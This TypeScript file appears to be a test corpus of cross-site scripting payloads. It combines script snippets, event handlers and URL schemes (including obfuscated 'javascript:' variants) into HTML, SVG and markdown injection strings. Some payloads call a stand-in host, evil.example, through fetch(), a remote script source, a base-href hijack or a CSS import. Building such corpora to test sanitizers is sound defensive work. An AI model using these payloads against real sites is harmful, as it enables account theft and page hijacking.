/**
 * What attackers put where a text is expected, by class: every vector with every thing it would run.
 * Harmless by itself: nothing but an alert would open.
 */
const RUNS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')"];

const HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationend"];

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  " javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "vbscript:",
  "data:text/html,",
  "data:image/svg+xml,",
  "file:///",
  "blob:",
  "//evil.example/",
  "\\\\evil.example\\",
];

const elements = (run: string) => [
  `<script>${run}</script>`,
  `<ScRiPt/x>${run}</ScRiPt>`,
  `<script src=//evil.example/x.js></script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${run}>">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${run}" /></svg>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `\u2028${run}`,
];

const handlers = (run: string) =>
  HANDLERS.flatMap((handler) => [
    `<img src=x ${handler}=${run}>`,
    `<svg/${handler}=${run}>`,
    `" ${handler}="${run}" autofocus x="`,
    `<details open ${handler}=${run}>`,
  ]);

const addresses = (run: string) =>
  SCHEMES.flatMap((scheme) => [
    `[Text](${scheme}${run})`,
    `![Bild](${scheme}${run})`,
    `<a href="${scheme}${run}">Text</a>`,
    `<${scheme}${run}>`,
  ]);

export const HOSTILE_TEXTS: readonly string[] = RUNS.flatMap((run) => [
  ...elements(run),
  ...handlers(run),
  ...addresses(run),
]);
